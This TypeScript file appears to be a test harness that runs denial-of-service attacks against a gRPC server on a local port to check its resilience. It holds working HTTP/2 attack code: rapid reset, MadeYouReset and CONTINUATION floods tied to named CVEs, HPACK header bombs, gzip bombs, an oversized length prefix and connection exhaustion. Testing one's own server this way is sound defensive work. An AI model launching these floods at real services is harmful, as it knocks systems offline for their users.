import { gzipSync } from "node:zlib";
import {
  block,
  call,
  callHeaders,
  flag,
  frame,
  greetRequest,
  message,
  settings,
  type,
  uint32,
} from "../fuzz/frames.ts";
import type { Attack } from "./attack.ts";
import { connectHttp2Peer, connectPeer, INITIAL_WINDOW_SIZE, streamId, windowUpdate } from "./peer.ts";

const greeting = block(callHeaders());
const version = block(callHeaders("/greeter.v1.GreeterService/Version"));
const unknown = block(callHeaders(`/${"x".repeat(8000)}`));
const empty = message(Buffer.alloc(0));

const reset = (stream: number): Buffer => frame(type.rstStream, 0, stream, uint32(8));
const headers = (stream: number, fields = greeting, flags = flag.endHeaders): Buffer =>
  frame(type.headers, flags, stream, fields);

/** Creates an attack that sends `first`, and then the bytes of `make` repeatedly on one connection. */
function flood(
  name: string,
  make: (count: number) => Buffer,
  { first = Buffer.alloc(0), reading = true, most = Infinity, flags = [] }: FloodOptions = {},
): Attack {
  return {
    name,
    protocol: "grpc",
    flags,
    disconnected: true,
    run: async (port) => {
      const peer = connectHttp2Peer(port, { reading });
      await peer.send(first);
      const count = await peer.flood(make, { most });
      return `${await peer.end()}, ${count} sent`;
    },
  };
}

interface FloodOptions {
  first?: Buffer;
  /** Whether the attacker reads responses. */
  reading?: boolean;
  /** Maximum number of calls of `make`. */
  most?: number;
  flags?: string[];
}

const bomb = message(gzipSync(Buffer.alloc(4 * 2 ** 20), { level: 9 }), { compressed: 1 });
const compressed = block([...callHeaders(), ["grpc-encoding", "gzip"]]);
const stored = block([...callHeaders(), ["bomb", "x".repeat(4000)]], 0x40);
/** Returns the headers of a call with references to the stored header, in one byte each. */
const references = (times: number): Buffer => Buffer.concat([greeting, Buffer.alloc(times, 0xbe)]);
const manySettings = settings(Array.from({ length: 32 }, (_, index) => [INITIAL_WINDOW_SIZE, 65_535 + index]));

/** Published attacks on HTTP/2, and attacks that are specific to gRPC. */
export const grpcFloods: Attack[] = [
  flood("rapid reset (CVE-2023-44487)", (n) => Buffer.concat([headers(streamId(n)), reset(streamId(n))])),
  flood("rapid reset of unknown methods", (n) => Buffer.concat([headers(streamId(n), unknown), reset(streamId(n))])),
  flood("made you reset (CVE-2025-8671): window of 0", (n) =>
    Buffer.concat([headers(streamId(n)), windowUpdate(streamId(n), 0)]),
  ),
  flood("made you reset: window overflow", (n) =>
    Buffer.concat([headers(streamId(n)), windowUpdate(streamId(n), 0x7fff_ffff)]),
  ),
  flood("made you reset: DATA on a closed stream", (n) =>
    Buffer.concat([call(streamId(n)), frame(type.data, 0, streamId(n), empty)]),
  ),
  flood("SETTINGS flood", () => frame(type.settings, 0, 0)),
  flood("SETTINGS of 32 entries", () => frame(type.settings, 0, 0, manySettings)),
  flood("PING flood", () => frame(type.ping, 0, 0, Buffer.alloc(8))),
  flood("PING flood, responses unread", () => frame(type.ping, 0, 0, Buffer.alloc(8)), { reading: false }),
  flood("PRIORITY flood", (n) => frame(type.priority, 0, streamId(n % 1000), Buffer.alloc(5, 1))),
  flood("WINDOW_UPDATE flood", () => windowUpdate(0, 1)),
  flood("unknown frames", () => frame(0xee, 0, 0)),
  flood("empty DATA frames", () => frame(type.data, 0, 1), { first: headers(1) }),
  flood(
    "CONTINUATION flood (CVE-2024-27316)",
    () => frame(type.continuation, 0, 1, block([["a", "x".repeat(16_000)]])),
    {
      first: headers(1, greeting, 0),
    },
  ),
  flood("empty CONTINUATION frames", () => frame(type.continuation, 0, 1), { first: headers(1, greeting, 0) }),
  flood(
    "header bomb: 15,000 references to 4 kB",
    (n) => headers(streamId(n + 1), references(15_000), flag.endHeaders | flag.endStream),
    {
      first: headers(1, stored, flag.endHeaders | flag.endStream),
    },
  ),
  flood("header bomb: many calls of 60 kB in 180 bytes", (n) => headers(streamId(n + 1), references(15)), {
    first: headers(1, stored, flag.endHeaders | flag.endStream),
  }),
  flood("calls that never end, 10,000 on a connection", (n) => headers(streamId(n)), { most: 10_000 }),
  flood(
    "health watches, 10,000 on a connection",
    (n) => call(streamId(n), block(callHeaders("/grpc.health.v1.Health/Watch")), empty),
    { most: 10_000 },
  ),
  flood("responses unread", (n) => call(streamId(n), version, empty), { reading: false }),
  flood(
    "unknown methods of 8 kB, responses unread",
    (n) => headers(streamId(n), unknown, flag.endHeaders | flag.endStream),
    { reading: false, flags: ["--grpc-keepalive-time", "1s", "--grpc-keepalive-timeout", "1s"] },
  ),
  flood("endless empty messages on one call", () => frame(type.data, 0, 1, Buffer.alloc(16_380)), {
    first: headers(1),
  }),
  {
    name: "responses with a flow-control window of 0",
    protocol: "grpc",
    flags: ["--grpc-max-timeout", "1s"],
    disconnected: false,
    run: async (port) => {
      const peer = connectHttp2Peer(port, { settings: [[INITIAL_WINDOW_SIZE, 0]] });
      await peer.flood((n) => call(streamId(n), version, empty), { most: 100 });
      await untilReset(peer, 100);
      return `100 calls cancelled, ${await peer.end()}`;
    },
  },
  {
    name: "90 concurrent gzip bombs of 4 MiB",
    protocol: "grpc",
    disconnected: false,
    run: async (port) => {
      const peer = connectHttp2Peer(port);
      const count = await peer.flood((n) => call(streamId(n), compressed, bomb), { most: 90 });
      return `${await peer.end()}, ${count} sent`;
    },
  },
  {
    name: "a message with a length prefix of 4 GiB",
    protocol: "grpc",
    disconnected: false,
    run: async (port) => {
      const peer = connectHttp2Peer(port);
      await peer.send(
        Buffer.concat([headers(1), frame(type.data, 0, 1, message(greetRequest("Ada"), { length: 2 ** 32 - 1 }))]),
      );
      return await peer.end();
    },
  },
  {
    name: "500 silent connections",
    protocol: "grpc",
    disconnected: true,
    run: async (port) => await summary(Array.from({ length: 500 }, () => connectPeer(port).end())),
  },
  {
    name: "500 connections with half a preface",
    protocol: "grpc",
    disconnected: true,
    run: async (port) =>
      await summary(Array.from({ length: 500 }, () => connectPeer(port, { first: Buffer.from("PRI * HTTP/2") }).end())),
  },
  {
    name: "connections beyond the limit",
    protocol: "grpc",
    flags: ["--max-connections", "100"],
    disconnected: true,
    run: async (port) => {
      const first = Array.from({ length: 99 }, () => connectHttp2Peer(port));
      const seen = await summary(Array.from({ length: 500 }, () => connectPeer(port).end()));
      await Promise.all(first.map((peer) => peer.end()));
      return seen;
    },
  },
];

/** Resolves when the server has reset so many streams. */
async function untilReset(peer: { received(): string }, count: number): Promise<void> {
  const resets = (): number => {
    const bytes = Buffer.from(peer.received(), "latin1");
    let found = 0;
    for (let at = 0; at + 9 <= bytes.length; at += 9 + bytes.readUIntBE(at, 3))
      if (bytes[at + 3] === type.rstStream) found++;
    return found;
  };
  for (const start = performance.now(); resets() < count;) {
    if (performance.now() - start > 6000) throw new Error(`Expected ${count} cancelled calls, got ${resets()}`);
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
}

/** Counts the ends of many connections by kind. */
export async function summary(ends: Promise<string>[]): Promise<string> {
  const counts = new Map<string, number>();
  for (const end of await Promise.all(ends)) {
    const kind = end.replace(/ after .*/, "");
    counts.set(kind, (counts.get(kind) ?? 0) + 1);
  }
  return [...counts].map(([kind, count]) => `${count} ${kind}`).join(", ");
}
